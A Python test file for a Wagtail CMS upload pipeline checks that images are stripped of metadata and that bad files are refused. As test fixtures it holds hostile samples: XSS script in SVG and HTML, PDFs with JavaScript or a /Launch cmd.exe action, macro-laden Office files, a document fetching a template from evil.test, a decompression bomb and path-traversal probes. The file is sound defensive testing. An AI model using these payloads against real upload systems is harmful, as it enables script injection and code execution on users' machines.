"""An editor uploads through the back office's real addresses: good files come in clean, bad ones not at all."""

import io

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse
from PIL import Image as Pillow
from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import UploadedFile
from wagtail.users.models import UserProfile

from portal.roles import Role
from tests.cms import uploads
from tests.cms.uploading import (
    WORDS,
    add_many,
    add_many_papers,
    add_paper,
    add_picture,
    choose_paper,
    choose_picture,
    opened,
    refused,
    root,
    said,
    stored,
)
from tests.people import person

pytestmark = [
    pytest.mark.django_db,
    # Wagtail leaves the files it read to the garbage collector.
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]


@pytest.fixture(autouse=True)
def editor(client, settings, tmp_path):
    files = {"BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": tmp_path}}
    settings.STORAGES = settings.STORAGES | {"default": files}
    settings.DEMO = True
    user = person(Role.EDITOR, "安禾县")
    client.force_login(user)
    return user


@pytest.fixture(params=["memory", "disk"])
def arrives(request, settings):
    """Small uploads are held in memory, large ones on the disk: both ways are walked."""
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 10_000_000 if request.param == "memory" else 10


ALL_WAYS = [add_picture, choose_picture]


@pytest.mark.usefixtures("arrives")
@pytest.mark.parametrize("add", ALL_WAYS)
def test_a_phones_picture_comes_in_upright_and_without_where_and_whose(client, add):
    add(client, "张三.jpg", uploads.photo(comment=uploads.OWNER.encode()))
    (image,) = Image.objects.all()
    assert (image.title, image.description) == (WORDS, WORDS)
    picture = opened(image.file.name)
    assert (picture.size, (image.width, image.height)) == ((480, 640), (480, 640))
    assert picture.getpixel((240, 20))[0] > 200, "red is above"
    assert not picture.getexif()
    assert "comment" not in picture.info
    raw = default_storage.open(image.file.name).read()
    assert b"Exif" not in raw
    assert uploads.OWNER.encode() not in raw
    assert "张" not in image.file.name
    assert "Zhang" not in image.file.name, "nobody's name in an address"


@pytest.mark.usefixtures("arrives")
def test_many_at_once_keep_the_clean_copy_while_the_words_are_awaited(client):
    answer = add_many(client, "IMG_0001.jpg", uploads.photo()).json()
    waiting = UploadedFile.objects.get()
    assert not Image.objects.exists(), "no picture without words"
    assert not opened(waiting.file.name).getexif()
    address = reverse("wagtailimages:create_multiple_from_uploaded_image", args=[answer["uploaded_file_id"]])
    prefix = f"uploaded-image-{waiting.pk}-"
    sent = {"title": "", "description": WORDS, "collection": root(), "tags": ""}
    assert not client.post(
        address, {f"{prefix}{key}": "" for key in sent} | {f"{prefix}collection": root()}
    ).json()["success"]
    assert client.post(address, {prefix + key: value for key, value in sent.items()}).json()["success"]
    (image,) = Image.objects.all()
    assert not opened(image.file.name).getexif()
    assert not UploadedFile.objects.exists()


@pytest.mark.parametrize(
    ("name", "content", "ending", "mode"),
    [
        ("a.jpg", uploads.photo(), "jpg", "RGB"),
        ("a.png", uploads.photo("PNG"), "png", "RGB"),
        ("a.webp", uploads.photo("WEBP"), "jpg", "RGB"),
        ("a.heic", uploads.heic(), "jpg", "RGB"),
        ("a.gif", uploads.moving(), "png", "RGB"),
        ("a.webp", uploads.see_through("WEBP"), "png", "RGBA"),
        ("called otherwise.png", uploads.photo(), "jpg", "RGB"),
    ],
)
def test_every_kind_of_picture_is_stored_as_jpeg_or_png(client, name, content, ending, mode):
    add_picture(client, name, content)
    image = Image.objects.get()
    picture = opened(image.file.name)
    assert image.file.name.endswith(ending)
    assert (picture.mode, getattr(picture, "n_frames", 1)) == (mode, 1)


def test_a_wide_picture_is_made_smaller(client):
    add_picture(client, "wide.jpg", uploads.photo(size=(5000, 1000)))
    image = Image.objects.get()
    assert (image.width, image.height) == (512, 2560)


@pytest.mark.parametrize("kind", ["webp", "avif", "jpeg"])
def test_a_rendition_is_served_to_everybody_for_a_year_and_the_upload_itself_to_nobody(client, kind):
    add_picture(client, "a.jpg", uploads.photo())
    image = Image.objects.get()
    rendition = image.get_rendition(f"width-200|format-{kind}")
    client.logout()
    answer = client.get(rendition.url)
    assert answer.status_code == 200
    assert answer["Content-Type"] == f"image/{kind}"
    assert "immutable" in answer["Cache-Control"]
    assert (answer["X-Content-Type-Options"], answer.cookies) == ("nosniff", {})
    assert Pillow.open(io.BytesIO(b"".join(answer.streaming_content))).size[0] == 200
    for hidden in (image.file.name, "images/../" + image.file.name, "images/nothing.jpg"):
        assert client.get(f"/media/{hidden}").status_code == 404


def test_a_whole_path_reaches_no_upload(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    files = {"BACKEND": "django.core.files.storage.FileSystemStorage"}
    settings.STORAGES = {**settings.STORAGES, "default": files}
    (tmp_path / "images").mkdir()
    (tmp_path / "original_images").mkdir()
    for name in ("images/a.png", "original_images/a.png"):
        (tmp_path / name).write_bytes(uploads.photo())
    shown = client.get("/media/images/a.png")
    shown.close()
    assert shown.status_code == 200
    assert client.get(f"/media/images/{tmp_path}/original_images/a.png").status_code == 404


FILE_NAMES = [
    "",
    "  ",
    "IMG_2041.jpg",
    "DSC 0012",
    "微信图片_20251103",
    "屏幕截图 2025-11-03 101010",
    "20251103",
]


@pytest.mark.parametrize("words", FILE_NAMES)
@pytest.mark.parametrize("add", ALL_WAYS)
def test_a_picture_without_words_is_not_taken(client, add, words):
    answer = add(client, "IMG_2041.jpg", uploads.photo(), words)
    assert not Image.objects.exists()
    assert stored() == set()
    assert "description" in (answer.context["form"].errors if add is add_picture else said(answer))


def test_words_are_asked_for_again_when_a_picture_is_edited(client):
    add_picture(client, "a.jpg", uploads.photo())
    image = Image.objects.get()
    sent = {"title": "x", "description": "IMG_1.jpg", "collection": root(), "tags": ""}
    for field in ("x", "y", "width", "height"):
        sent[f"focal_point_{field}"] = ""
    answer = client.post(reverse("wagtailimages:edit", args=[image.pk]), sent)
    assert "description" in answer.context["form"].errors
    client.post(reverse("wagtailimages:edit", args=[image.pk]), sent | {"description": "村口的桥"})
    image.refresh_from_db()
    assert image.description == "村口的桥"


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BAD_PICTURES = {
    "an SVG with script": ("a.svg", SVG, "SVG"),
    "an SVG called a picture": ("a.png", b"<?xml version='1.0'?>" + SVG, "SVG"),
    "a web page called a picture": ("a.jpg", b"<html><script>alert(1)</script>", ("图片", "picture")),
    "a picture of 30 MB": ("a.jpg", uploads.photo() + b"\0" * 30_000_000, "10"),
    "a picture that unpacks to a gigabyte": ("a.png", uploads.bomb(), "64"),
    "half a picture": ("a.jpg", uploads.photo(size=(2000, 1000))[:4000], ("损坏", "damaged")),
    "a GIF that is a script": ("a.gif", uploads.gif_that_is_a_script(), ("脚本", "script")),
    "a JPEG that is a web page": ("a.jpg", uploads.photo() + uploads.SCRIPT, ("脚本", "script")),
    "a JPEG with a script in its comment": (
        "a.jpg",
        uploads.photo(comment=uploads.SCRIPT),
        ("脚本", "script"),
    ),
    "a picture that is an archive": (
        "a.png",
        uploads.photo("PNG") + uploads.archive(),
        ("两个文件", "two files"),
    ),
    "an empty file": ("a.jpg", b"", ("空", "empty")),
    "a PSD": ("a.jpg", b"8BPS" + b"\0" * 100, ("图片", "picture")),
}
BAD_PAPERS = {
    "a PDF with a script": ("a.pdf", uploads.pdf(uploads.JAVASCRIPT), ("脚本", "scripts")),
    "a PDF with a script under another spelling": (
        "a.pdf", uploads.pdf(uploads.JAVASCRIPT.replace(b"/JavaScript", b"/J#61vaScript")), ("脚本", "scripts")),
    "a PDF with a script packed away": ("a.pdf", uploads.pdf(uploads.packed(b"7 0 <</S/JavaScript/JS(x)>>")), ("脚本", "scripts")),
    "a PDF with parts packed oddly": (
        "a.pdf", uploads.pdf(uploads.packed(b"7 0 <<>>", b"/DecodeParms<</Predictor 12>>")), ("检查", "checked")),
    "a PDF that starts a program": ("a.pdf", uploads.pdf(b"7 0 obj <</S/Launch/F(cmd.exe)>> endobj"), ("脚本", "scripts")),
    "a locked PDF": ("a.pdf", uploads.pdf().replace(b"trailer <<", b"trailer <</Encrypt 8 0 R"), ("密码", "password")),
    "a PDF that is an archive": ("a.pdf", uploads.pdf() + uploads.archive() + b"%%EOF", ("两个文件", "two files")),
    "half a PDF": ("a.pdf", uploads.pdf()[:90], ("损坏", "damaged")),
    "a web page called a PDF": ("a.pdf", b"<html><script>alert(1)</script>", ("损坏", "damaged")),
    "a broken spreadsheet": ("a.xlsx", uploads.spreadsheet()[:-400], ("损坏", "damaged")),
    "a spreadsheet with a damaged part": (
        "a.xlsx", uploads.with_part(uploads.archive(), "xl/workbook.xml", b"<workbook"), ("损坏", "damaged")),
    "a spreadsheet with macros": ("a.xlsx", uploads.with_part(uploads.spreadsheet(), "xl/vbaProject.bin", b"x"), ("宏", "macros")),
    "a letter with macros": ("a.docx", uploads.letter(word__vbaProject_bin=b"x"), ("宏", "macros")),
    "a letter that fetches its template": (
        "a.docx",
        uploads.with_part(
            uploads.letter(), "word/_rels/settings.xml.rels",
            b'<R><S Type="http://x/attachedTemplate" TargetMode="External" Target="http://evil.test/a.dotm"/></R>'),
        ("别处", "elsewhere")),
    "a spreadsheet called a letter": ("a.docx", uploads.spreadsheet(), ("损坏", "damaged")),
    "a letter of entities": (
        "a.docx", uploads.letter().replace(b"x", b"x") and uploads.letter(word__a_xml=b"") and uploads.with_part(
            uploads.archive(), "word/document.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), ("损坏", "damaged")),
    "a program called a table": ("a.csv", b"MZ\x90\0\x03\0\0\0\x04", ("文本", "text")),
    "a web page called a text": ("a.txt", b"<html>" + uploads.SCRIPT, ("脚本", "script")),
    "a web page": ("a.html", uploads.SCRIPT, ("html", "html")),
    "more than 20 MB": ("a.txt", b"a" * 21_000_000, "20"),
}  # fmt: skip


@pytest.fixture(params=["zh-hans", "en"])
def language(request, editor):
    UserProfile.objects.update_or_create(user=editor, defaults={"preferred_language": request.param})
    return request.param


@pytest.mark.parametrize("case", BAD_PICTURES)
def test_a_bad_picture_is_refused_with_a_sentence_and_leaves_nothing(client, language, case):
    for add in (add_picture, add_many, choose_picture):
        refused(client, add, BAD_PICTURES[case], language)


@pytest.mark.parametrize("case", BAD_PAPERS)
def test_a_bad_document_is_refused_with_a_sentence_and_leaves_nothing(client, language, case):
    for add in (add_paper, add_many_papers, choose_paper):
        refused(client, add, BAD_PAPERS[case], language)


GOOD_PAPERS = {
    "a.pdf": uploads.pdf(uploads.packed(b"7 0 <</Type/Font>>")),
    "a.xlsx": uploads.spreadsheet(),
    "a.docx": uploads.letter(),
    "a.csv": "户主,金额\n王某,120\n".encode("gb18030"),
    "a.txt": "通知".encode(),
}


@pytest.mark.parametrize("name", GOOD_PAPERS)
def test_a_good_document_is_handed_out_to_be_saved_and_never_run(client, name):
    add_paper(client, name, GOOD_PAPERS[name])
    paper = Document.objects.get()
    client.logout()
    answer = client.get(paper.url)
    assert b"".join(answer.streaming_content) == GOOD_PAPERS[name]
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer["Content-Security-Policy"]
    assert client.get(paper.url, headers={"If-None-Match": answer["ETag"]}).status_code == 304


def test_a_request_of_any_size_is_not_read(client, settings):
    settings.UPLOAD_MAX_REQUEST_SIZE = 1000
    answer = add_picture(client, "a.jpg", uploads.photo())
    assert answer.status_code == 400
    assert "没有" in answer.content.decode()
    assert stored() == set()


@pytest.mark.parametrize("role", [Role.HANDLER, Role.PREPARER, Role.AUDITOR])
def test_who_does_not_edit_uploads_nothing(client, role):
    client.force_login(person(role, "安禾县"))
    for add in (add_picture, add_many, choose_picture, add_paper):
        assert add(client, "a.jpg", uploads.photo()).status_code in {302, 403, 404}
    assert stored() == set()
